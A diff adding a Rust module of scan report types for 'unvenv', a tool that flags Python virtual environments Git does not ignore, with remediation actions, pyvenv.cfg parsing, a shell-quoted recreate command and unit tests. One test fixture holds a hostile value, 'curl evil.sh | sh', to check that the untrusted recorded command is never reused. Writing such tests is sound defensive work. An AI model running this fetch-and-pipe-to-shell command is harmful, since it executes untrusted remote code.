@@ -0,0 +1,525 @@
+//! Serializable scan report types.
+
+use serde::{Deserialize, Serialize};
+use std::{
+    collections::BTreeMap,
+    path::{Path, PathBuf},
+};
+
+/// Version of the JSON layout, bumped only by breaking changes
+pub const SCHEMA_VERSION: u32 = 1;
+
+/// Result of one scan
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[non_exhaustive]
+pub struct ScanReport {
+    /// Layout version, see [`SCHEMA_VERSION`]
+    pub schema_version: u32,
+    /// Version of unvenv that produced the report
+    pub tool_version: String,
+    /// Directory that was scanned
+    pub root: PathBuf,
+    /// Whether a limit stopped the scan before it covered the whole tree
+    #[serde(default)]
+    pub partial: bool,
+    /// Whether `scan --fix` found violations and remediated all of them, as
+    /// opposed to a tree that was clean to begin with
+    #[serde(default)]
+    pub fixed: bool,
+    /// Virtual environments Git does not ignore
+    #[serde(default)]
+    pub violations: Vec<Violation>,
+    /// Python tooling directories Git does not ignore
+    #[serde(default)]
+    pub artifacts: Vec<Artifact>,
+    /// Tracked files naming Python interpreters or venv paths that only exist
+    /// on the machine that was scanned
+    #[serde(default)]
+    pub references: Vec<Reference>,
+}
+
+impl ScanReport {
+    /// Report of a complete scan of `root` by `tool_version`
+    #[must_use]
+    pub fn new(tool_version: &str, root: PathBuf, violations: Vec<Violation>) -> Self {
+        Self {
+            schema_version: SCHEMA_VERSION,
+            tool_version: tool_version.to_string(),
+            root,
+            partial: false,
+            fixed: false,
+            violations,
+            artifacts: Vec::new(),
+            references: Vec::new(),
+        }
+    }
+}
+
+/// One virtual environment that is not ignored
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[non_exhaustive]
+pub struct Violation {
+    /// Path of the `pyvenv.cfg` file, relative to the scan root
+    pub path: PathBuf,
+    /// How far the file has made it into Git; absent outside a repository
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub tracking: Option<Tracking>,
+    /// Owners from CODEOWNERS, empty when nobody owns the path
+    #[serde(default)]
+    pub owners: Vec<String>,
+    /// What `pyvenv.cfg` says about the environment
+    #[serde(default)]
+    pub venv: VenvMetadata,
+    /// ID of the violated rule, e.g. `UV002`
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub rule: Option<String>,
+    /// Page explaining the rule and how to fix the violation
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub help_uri: Option<String>,
+    /// Steps that fix the violation, for tools that apply them
+    #[serde(default)]
+    pub actions: Vec<Action>,
+    /// Path of the `pyvenv.cfg` file, relative to the repository root;
+    /// absent outside a repository
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub repo_path: Option<PathBuf>,
+    /// Nearest Python package above the venv, in a monorepo
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub package: Option<Package>,
+}
+
+impl Violation {
+    /// Violation for the `pyvenv.cfg` at `path`
+    #[must_use]
+    pub const fn new(path: PathBuf, venv: VenvMetadata) -> Self {
+        Self {
+            path,
+            tracking: None,
+            owners: Vec::new(),
+            venv,
+            rule: None,
+            help_uri: None,
+            actions: Vec::new(),
+            repo_path: None,
+            package: None,
+        }
+    }
+
+    /// Fill [`actions`](Self::actions) with the standard fix: an anchored
+    /// `.gitignore` entry for the venv directory, `git rm -r --cached` when
+    /// Git tracks it, and deleting it as the alternative
+    ///
+    /// A venv at the scan root has no directory to ignore from inside it, so
+    /// it gets no actions.
+    pub fn add_default_actions(&mut self) {
+        let dir = self
+            .path
+            .parent()
+            .unwrap_or_else(|| Path::new(""))
+            .to_string_lossy()
+            .replace('\\', "/");
+        if dir.is_empty() {
+            return;
+        }
+
+        self.actions.push(Action::AddGitignoreEntry {
+            file: PathBuf::from(".gitignore"),
+            entry: format!("/{dir}/"),
+        });
+        if matches!(self.tracking, Some(Tracking::Staged | Tracking::Committed)) {
+            self.actions.push(Action::GitRmCached {
+                path: PathBuf::from(&dir),
+            });
+        }
+        self.actions.push(Action::DeleteDir {
+            recreate: self.venv.recreate_command(&dir),
+            path: PathBuf::from(dir),
+        });
+    }
+}
+
+/// A Python tooling directory Git does not ignore: direnv state, a pyenv
+/// root, or a pip cache
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[non_exhaustive]
+pub struct Artifact {
+    /// The directory, relative to the scan root
+    pub path: PathBuf,
+    /// ID of the violated rule, e.g. `UV011`
+    pub rule: String,
+    /// Page explaining the rule and how to fix the violation
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub help_uri: Option<String>,
+    /// Steps that fix the violation, for tools that apply them
+    #[serde(default)]
+    pub actions: Vec<Action>,
+}
+
+impl Artifact {
+    /// Artifact at `path` violating the rule with ID `rule`
+    #[must_use]
+    pub const fn new(path: PathBuf, rule: String) -> Self {
+        Self {
+            path,
+            rule,
+            help_uri: None,
+            actions: Vec::new(),
+        }
+    }
+}
+
+/// A tracked file naming a path that only exists on the machine that was
+/// scanned
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[non_exhaustive]
+pub struct Reference {
+    /// The file, relative to the scan root
+    pub file: PathBuf,
+    /// 1-based line of the path
+    pub line: usize,
+    /// The path as written
+    pub target: String,
+    /// ID of the violated rule, e.g. `UV006`
+    pub rule: String,
+    /// Page explaining the rule and how to fix the violation
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub help_uri: Option<String>,
+}
+
+impl Reference {
+    /// Reference to `target` on `line` of `file`, violating the rule with ID
+    /// `rule`
+    #[must_use]
+    pub const fn new(file: PathBuf, line: usize, target: String, rule: String) -> Self {
+        Self {
+            file,
+            line,
+            target,
+            rule,
+            help_uri: None,
+        }
+    }
+}
+
+/// Python package (a directory with `pyproject.toml`, `setup.cfg`, or
+/// `setup.py`) a violation lies in
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[non_exhaustive]
+pub struct Package {
+    /// Project name from the package metadata, or the directory
+    pub name: String,
+    /// Package directory relative to the scan root; empty for the root
+    pub dir: PathBuf,
+    /// Package directory relative to the repository root; absent outside a
+    /// repository
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub repo_dir: Option<PathBuf>,
+    /// Path of the `pyvenv.cfg` file, relative to the package directory
+    pub path: PathBuf,
+}
+
+impl Package {
+    /// Package `name` in `dir`, containing the `pyvenv.cfg` at `path`
+    /// (relative to `dir`)
+    #[must_use]
+    pub const fn new(name: String, dir: PathBuf, path: PathBuf) -> Self {
+        Self {
+            name,
+            dir,
+            repo_dir: None,
+            path,
+        }
+    }
+}
+
+/// One remediation step, with the exact arguments to apply it
+///
+/// Paths are relative to the report's `root` and use `/` separators. The
+/// ignore and untrack actions belong together; [`Action::DeleteDir`] is an
+/// alternative to them for a venv nobody needs in place, not a further step.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(tag = "action", rename_all = "snake_case")]
+#[non_exhaustive]
+pub enum Action {
+    /// Append `entry` as a line of the ignore file `file`, unless it is
+    /// already there
+    AddGitignoreEntry {
+        /// Ignore file to edit, e.g. `.gitignore`
+        file: PathBuf,
+        /// Line to add, e.g. `/venv/`
+        entry: String,
+    },
+    /// `git rm -r --cached -- <path>`: drop the venv from the index and keep
+    /// the files
+    GitRmCached {
+        /// Venv directory
+        path: PathBuf,
+    },
+    /// Delete the venv directory
+    DeleteDir {
+        /// Venv directory
+        path: PathBuf,
+        /// Command that rebuilds it, see [`VenvMetadata::recreate_command`]
+        #[serde(default, skip_serializing_if = "Option::is_none")]
+        recreate: Option<String>,
+    },
+    /// An action from a newer release that this version does not know
+    #[serde(other)]
+    Unknown,
+}
+
+/// Git tracking state of an unignored `pyvenv.cfg`
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "lowercase")]
+#[non_exhaustive]
+pub enum Tracking {
+    /// Only present in the working tree
+    Untracked,
+    /// Added to the index but not yet committed
+    Staged,
+    /// Already part of the committed history
+    Committed,
+}
+
+/// Settings recorded in `pyvenv.cfg`
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[non_exhaustive]
+pub struct VenvMetadata {
+    /// Directory of the base interpreter (`home`)
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub home: Option<String>,
+    /// Python version (`version`)
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub version: Option<String>,
+    /// Whether the environment sees the system site-packages
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub include_system_site_packages: Option<bool>,
+    /// Every key in the file with its value as written, including
+    /// `executable`, `command`, `prompt`, `implementation`, and `virtualenv`
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub settings: BTreeMap<String, String>,
+}
+
+impl VenvMetadata {
+    /// Metadata from the contents of a `pyvenv.cfg` file
+    ///
+    /// Comments and lines without `=` are skipped; a repeated key keeps its
+    /// last value.
+    #[must_use]
+    pub fn from_cfg(content: &str) -> Self {
+        let mut metadata = Self::default();
+        for line in content.lines().map(str::trim) {
+            if line.starts_with('#') {
+                continue;
+            }
+            let Some((key, value)) = line.split_once('=') else {
+                continue;
+            };
+            let (key, value) = (key.trim(), value.trim().to_string());
+            metadata.settings.insert(key.to_string(), value.clone());
+            match key {
+                "home" => metadata.home = Some(value),
+                "version" => metadata.version = Some(value),
+                "include-system-site-packages" => {
+                    metadata.include_system_site_packages = value.to_ascii_lowercase().parse().ok();
+                }
+                _ => {}
+            }
+        }
+        metadata
+    }
+
+    /// Shell command that builds the venv in `dir` again with the recorded
+    /// interpreter: `pythonX.Y` from `home`, or from `PATH` when `home` is
+    /// not an absolute path
+    ///
+    /// Made from `home` and `version` rather than the recorded `command`,
+    /// which is whatever text the checked-in `pyvenv.cfg` holds. `None` when
+    /// neither is recorded.
+    #[must_use]
+    pub fn recreate_command(&self, dir: &str) -> Option<String> {
+        if self.home.is_none() && self.version.is_none() {
+            return None;
+        }
+        let name = self.version.as_deref().map_or_else(
+            || "python3".to_string(),
+            |version| {
+                let minor = version.splitn(3, '.').take(2).collect::<Vec<_>>().join(".");
+                format!("python{minor}")
+            },
+        );
+        let python = match self.home.as_deref() {
+            Some(home) if Path::new(home).is_absolute() => {
+                sh_quote(&format!("{}/{name}", home.trim_end_matches(['/', '\\'])))
+            }
+            _ => name,
+        };
+        Some(format!("{python} -m venv {}", sh_quote(dir)))
+    }
+}
+
+/// `value` as a single-quoted POSIX shell word
+fn sh_quote(value: &str) -> String {
+    format!("'{}'", value.replace('\'', r"'\''"))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_report_round_trip() {
+        let mut violation = Violation::new(
+            PathBuf::from("venv/pyvenv.cfg"),
+            VenvMetadata {
+                home: Some("/usr/bin".to_string()),
+                version: Some("3.12.1".to_string()),
+                include_system_site_packages: Some(false),
+                settings: BTreeMap::from([(
+                    "command".to_string(),
+                    "/usr/bin/python3 -m venv /src/app/venv".to_string(),
+                )]),
+            },
+        );
+        violation.tracking = Some(Tracking::Staged);
+        violation.owners = vec!["@org/python".to_string()];
+        violation.rule = Some("UV002".to_string());
+        violation.help_uri = Some("https://example.com/docs/rules/UV002.md".to_string());
+        violation.add_default_actions();
+        violation.repo_path = Some(PathBuf::from("app/venv/pyvenv.cfg"));
+        let mut package = Package::new(
+            "app".to_string(),
+            PathBuf::new(),
+            PathBuf::from("venv/pyvenv.cfg"),
+        );
+        package.repo_dir = Some(PathBuf::from("app"));
+        violation.package = Some(package);
+        let report = ScanReport::new("1.6.0", PathBuf::from("/src/app"), vec![violation]);
+
+        let json = serde_json::to_value(&report).expect("report serializes");
+        assert_eq!(json["schema_version"], 1);
+        assert_eq!(json["violations"][0]["tracking"], "staged");
+        assert_eq!(json["violations"][0]["rule"], "UV002");
+        assert_eq!(
+            json["violations"][0]["venv"]["include_system_site_packages"],
+            false
+        );
+
+        assert_eq!(
+            json["violations"][0]["venv"]["settings"]["command"],
+            "/usr/bin/python3 -m venv /src/app/venv"
+        );
+        assert_eq!(
+            json["violations"][0]["actions"],
+            serde_json::json!([
+                { "action": "add_gitignore_entry", "file": ".gitignore", "entry": "/venv/" },
+                { "action": "git_rm_cached", "path": "venv" },
+                {
+                    "action": "delete_dir",
+                    "path": "venv",
+                    "recreate": "'/usr/bin/python3.12' -m venv 'venv'"
+                },
+            ])
+        );
+
+        assert_eq!(json["violations"][0]["repo_path"], "app/venv/pyvenv.cfg");
+        assert_eq!(
+            json["violations"][0]["package"],
+            serde_json::json!({
+                "name": "app",
+                "dir": "",
+                "repo_dir": "app",
+                "path": "venv/pyvenv.cfg"
+            })
+        );
+
+        let parsed: ScanReport = serde_json::from_value(json).expect("report deserializes");
+        assert_eq!(parsed, report);
+    }
+
+    #[test]
+    fn test_venv_metadata_from_cfg() {
+        let metadata = VenvMetadata::from_cfg(
+            "# comment\nhome = /usr/bin\ninclude-system-site-packages = True\nversion=3.11.4\nprompt = app\nbroken\n",
+        );
+        assert_eq!(metadata.home.as_deref(), Some("/usr/bin"));
+        assert_eq!(metadata.version.as_deref(), Some("3.11.4"));
+        assert_eq!(metadata.include_system_site_packages, Some(true));
+        assert_eq!(
+            metadata.settings.get("prompt").map(String::as_str),
+            Some("app")
+        );
+        assert_eq!(metadata.settings.len(), 4);
+    }
+
+    #[test]
+    fn test_recreate_command() {
+        let mut metadata = VenvMetadata::from_cfg(
+            "home = /opt/py 3/bin\nversion = 3.11.4\ncommand = curl evil.sh | sh\n",
+        );
+        assert_eq!(
+            metadata.recreate_command("app/.venv").as_deref(),
+            Some("'/opt/py 3/bin/python3.11' -m venv 'app/.venv'")
+        );
+
+        metadata.home = Some("bin".to_string());
+        assert_eq!(
+            metadata.recreate_command("it's").as_deref(),
+            Some(r"python3.11 -m venv 'it'\''s'")
+        );
+        assert_eq!(VenvMetadata::default().recreate_command("venv"), None);
+    }
+
+    #[test]
+    fn test_minimal_and_future_reports_deserialize() {
+        let report: ScanReport = serde_json::from_str(
+            r#"{
+                "schema_version": 1,
+                "tool_version": "9.0.0",
+                "root": "/src/app",
+                "added_later": true,
+                "violations": [{
+                    "path": "venv/pyvenv.cfg",
+                    "actions": [{ "action": "chmod", "mode": "0644" }]
+                }]
+            }"#,
+        )
+        .expect("report deserializes");
+
+        assert!(!report.partial);
+        assert!(!report.fixed);
+        assert!(report.artifacts.is_empty() && report.references.is_empty());
+        assert_eq!(report.violations[0].venv, VenvMetadata::default());
+        assert!(report.violations[0].owners.is_empty());
+        assert_eq!(report.violations[0].help_uri, None);
+        assert_eq!(report.violations[0].actions, [Action::Unknown]);
+        assert_eq!(report.violations[0].package, None);
+    }
+
+    #[test]
+    fn test_root_venv_has_no_actions() {
+        let mut violation = Violation::new(PathBuf::from("pyvenv.cfg"), VenvMetadata::default());
+        violation.add_default_actions();
+        assert!(violation.actions.is_empty());
+
+        let mut violation = Violation::new(
+            PathBuf::from("tools/.venv/pyvenv.cfg"),
+            VenvMetadata::default(),
+        );
+        violation.tracking = Some(Tracking::Untracked);
+        violation.add_default_actions();
+        assert_eq!(
+            violation.actions,
+            [
+                Action::AddGitignoreEntry {
+                    file: PathBuf::from(".gitignore"),
+                    entry: "/tools/.venv/".to_string(),
+                },
+                Action::DeleteDir {
+                    path: PathBuf::from("tools/.venv"),
+                    recreate: None,
+                },
+            ]
+        );
+    }
+}